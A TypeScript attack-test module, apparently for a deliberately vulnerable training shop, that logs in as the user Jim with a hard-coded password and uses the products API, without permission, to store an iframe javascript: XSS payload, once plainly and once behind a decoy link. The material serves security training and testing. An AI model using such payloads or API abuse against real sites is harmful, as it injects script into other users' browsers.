import type { Attack, Tools } from '#lab'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** Adds a product to the catalogue as Jim, who has no permission. */
async function addProduct({ logIn, http, settings, expect }: Tools, description: string): Promise<void> {
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const answer = await http.post('/api/Products', { name: 'RestXSS', description, price: 47.11 }, { token })
  expect(answer.status === 201, `the product answered with ${answer.status}`)
  const { data } = answer.json<{ data: { description: string } }>()
  expect(data.description.includes(PAYLOAD), 'the description is another one')
}

export const attacks: Attack[] = [
  {
    challenge: 'restfulXssChallenge',
    name: 'a product with a player in its description',
    run: (tools) => addProduct(tools, PAYLOAD),
  },
  {
    challenge: 'restfulXssChallenge',
    name: 'the payload behind a decoy',
    run: (tools) => addProduct(tools, `<a href="javascript:void(0)">Fresh!</a>${PAYLOAD}`),
  },
]
